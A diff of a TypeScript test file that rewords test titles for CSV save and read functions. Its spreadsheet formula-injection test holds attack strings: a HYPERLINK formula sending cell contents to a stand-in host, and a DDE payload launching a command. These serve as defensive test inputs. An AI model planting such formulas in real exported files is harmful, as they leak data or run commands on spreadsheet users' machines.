@@ -234,7 +234,7 @@ describe("saveFrame() and readFrame()", () => {
     assertEquals(listColumn(await readFrame(url), "power"), [1.5]);
   });
 
-  it("take columns that are declared anew", async () => {
+  it("take columns whose declarations are replaced", async () => {
     const frame = describeFrame(pl.DataFrame([buildSeries(power, [1.5])]), [power], origin);
     const { path } = await again(frame, "csv");
     const label = { ...power, label: "Leistung" };
@@ -295,7 +295,7 @@ describe("saveFrame() as CSV", () => {
     assertEquals(metadata["dc:rights"], origin.attribution);
   });
 
-  it("F27 writes no text that a spreadsheet takes for a formula", async () => {
+  it("F27 writes no text that a spreadsheet reads as a formula", async () => {
     const attacks = [
       '=HYPERLINK("http://example.com/?"&A1,"total")',
       "+1+cmd|' /C calc'!A0",
@@ -324,7 +324,7 @@ describe("saveFrame() as CSV", () => {
     assertEquals(listColumn(read, "energy")[1], -1.5);
   });
 
-  it("F27 changes nothing where it is not asked to, and nothing that is harmless", async () => {
+  it("F27 changes nothing without the option, and no harmless text", async () => {
     const frame = pl.DataFrame([pl.Series("a", ["=1+1", "Nord - Süd", "a=b"], pl.Utf8)]);
     const [plain, safe] = [fresh("csv"), fresh("csv")];
     await saveFrame(frame, plain);
@@ -338,7 +338,7 @@ describe("saveFrame() refuses", () => {
   inFolder();
   const one = () => pl.DataFrame([buildSeries(power, [1])]);
 
-  it("to replace a file, unless it is told to; nothing is changed or left then", async () => {
+  it("to replace a file without overwrite, and leaves nothing behind", async () => {
     const path = fresh("csv");
     await saveFrame(one(), path);
     const before = await Deno.readTextFile(path);
@@ -358,7 +358,7 @@ describe("saveFrame() refuses", () => {
     await assertRejects(() => Deno.stat(path), Deno.errors.NotFound);
   });
 
-  it("an ending that names no kind", async () => {
+  it("an unknown ending", async () => {
     for (const name of ["a.xlsx", "a", "a.csv.gz"]) {
       await assertRejects(() => saveFrame(one(), `${folder}/${name}`), ArgumentError, name);
     }
@@ -396,7 +396,7 @@ describe("saveFrame() refuses", () => {
     );
   });
 
-  it("a folder that is not there, and leaves nothing", async () => {
+  it("a missing folder, and leaves nothing behind", async () => {
     await assertRejects(() => saveFrame(one(), `${folder}/none/a.csv`), Deno.errors.NotFound);
   });
 });
@@ -458,7 +458,7 @@ describe("readFrame() refuses", () => {
     return { path, text: await Deno.readTextFile(path) };
   };
 
-  it("a CSV file whose columns nothing tells, and says what to do", async () => {
+  it("a CSV file whose columns are not known, and says what to do", async () => {
     const path = fresh("csv");
     await Deno.writeTextFile(path, "a\n1\n");
     await assertRejects(() => readFrame(path), ArgumentError, "readFrame(path, { columns })");
@@ -482,7 +482,7 @@ describe("readFrame() refuses", () => {
     }
   });
 
-  it("F28 metadata that are none, deep, huge or hostile", async () => {
+  it("F28 metadata that are invalid, deep, huge or hostile", async () => {
     const { path } = await saved();
     const beside = `${path}-metadata.json`;
     const whole = await Deno.readTextFile(beside);
